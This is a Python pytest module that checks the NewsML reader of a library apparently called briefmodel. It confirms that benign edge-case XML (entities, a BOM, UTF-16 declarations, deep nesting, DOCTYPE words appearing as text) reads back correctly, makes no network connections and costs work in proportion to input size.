@pytest.mark.parametrize("pretty", [False, True], ids=["compact", "pretty"])
@pytest.mark.parametrize("as_bytes", [False, True], ids=["str", "bytes"])
def test_a_genuine_item_goes_through_the_same_doors(
    pretty: bool, as_bytes: bool, tmp_path: Path, listener: socket.socket
) -> None:
    brief = bm.load(ROOT / "examples" / "port-fees.json")
    text = bm.dumps(brief, "newsml", pretty=pretty)
    data: Data = text.encode("utf-8") if as_bytes else text
    assert _through_every_door(data, tmp_path) == {brief}
    assert not _connections(listener)


def test_the_carrier_of_the_attacks_is_a_valid_item(tmp_path: Path) -> None:
    assert _through_every_door(item(), tmp_path) == {CARRIER}


def _with(headline: str | None = None, body: str | None = None) -> bm.Brief:
    sections = CARRIER.sections
    if body is not None:
        sections = (bm.Section(blocks=[bm.Paragraph(content=body)]),)
    return attrs.evolve(CARRIER, headline=headline or CARRIER.headline, sections=sections)


def near(name: str, data: Data, expected: bm.Brief, *, on_disk: bool = True) -> Any:
    return pytest.param(data, expected, on_disk, id=name)


_WORLD = "\u0645\u064a\u0646\u0627\u0621 \u6e2f \U0001f6a2"
_ENTITIES = "Fees &amp; tolls &lt;&gt; &quot;&apos; caf&#233; &#x2014; &#128674;"
NEAR_MISSES = [
    near("comment-in-prolog", item("<!-- no DOCTYPE here, only a comment -->\n"), CARRIER),
    near("pi-in-prolog", item('<?xml-stylesheet type="text/xsl" href="x.xsl"?>\n'), CARRIER),
    near(
        "predefined-entities-and-character-references",
        item(headline=_ENTITIES, title=_ENTITIES),
        _with(headline="Fees & tolls <> \"' caf\u00e9 \u2014 \U0001f6a2"),
    ),
    near("utf8-bom", b"\xef\xbb\xbf" + item().encode("utf-8"), CARRIER),
    near("str-declaring-utf16", item(encoding="UTF-16"), CARRIER, on_disk=False),
    near(
        "multibyte-utf8",
        item(headline=_WORLD, title=_WORLD).encode("utf-8"),
        _with(headline=_WORLD),
    ),
    near(  # another producer's item (briefmodel's own profile has no <div>): as if flat
        "200-nested-divs",
        item(body="<div>" * 200 + "<p>deep</p>" + "</div>" * 200).replace(_GENERATOR, ""),
        bm.loads(item(body="<p>deep</p>").replace(_GENERATOR, ""), "newsml"),
    ),
    near(
        "the-words-in-text",
        item(body="<p>XInclude, DOCTYPE and ENTITY named in text: &lt;!DOCTYPE x&gt;</p>"),
        _with(body="XInclude, DOCTYPE and ENTITY named in text: <!DOCTYPE x>"),
    ),
]


@pytest.mark.parametrize(("data", "expected", "on_disk"), NEAR_MISSES)
def test_near_misses_are_read(
    data: Data, expected: bm.Brief, on_disk: bool, tmp_path: Path
) -> None:
    assert _through_every_door(data, tmp_path, on_disk=on_disk) == {expected}


@pytest.mark.parametrize("namespace", [XI_2001, XI_2003])
def test_the_xinclude_namespace_as_text_reads_back(namespace: str) -> None:
    brief = attrs.evolve(
        CARRIER,
        sections=[
            bm.Section(
                blocks=[
                    bm.Paragraph(content=f"XInclude's namespace is {namespace}."),
                    bm.Paragraph(content=[bm.Link(href=namespace, content="the spec")]),
                ]
            )
        ],
    )
    assert bm.loads(bm.dumps(brief, "newsml"), "newsml") == brief


# ======================================================================================
# Nesting within the parser's bound: read or refused, never a crash or a hang


@pytest.mark.parametrize(
    "tag", ["div", "section", "blockquote", "ul><li", "em", "strong", "span", "a", "cite", "x"]
)
@pytest.mark.parametrize("door", ["loads", "lenient", "validate"])
def test_nesting_within_the_bound_never_escapes(
    tag: str, door: str, env: Env, listener: socket.socket
) -> None:
    tags = tag.split("><")
    depth = 240 // len(tags)  # 7 levels above: under libxml2's 256
    opening = "".join(f"<{t}>" for t in tags)
    closing = "".join(f"</{t}>" for t in reversed(tags))
    data = item(body="<p>" + _nested(opening, closing, depth) + "</p>")
    calls: dict[str, Callable[[], Any]] = {
        "loads": lambda: bm.loads(data, "newsml"),
        "lenient": lambda: bm.loads(data, "newsml", strict=False),
        "validate": lambda: bm.validate(data, "newsml"),
    }
    outcome = _run(calls[door], env)
    assert outcome.error is None or isinstance(outcome.error, bm.BriefmodelError), outcome.error


@pytest.mark.parametrize("step", ["loads", "validate"])
@pytest.mark.parametrize("family", hostile.of_format("newsml"), ids=lambda f: f.name)
def test_hostile_newsml_costs_work_in_proportion_to_its_size(
    family: hostile.Family, step: str
) -> None:
    """Each family of the benchmark's hostile input of this format does about four times
    the work (lines of Python run) at four times the size, read or validated."""
    assert_linear(hostile_run(family, step), 3000)
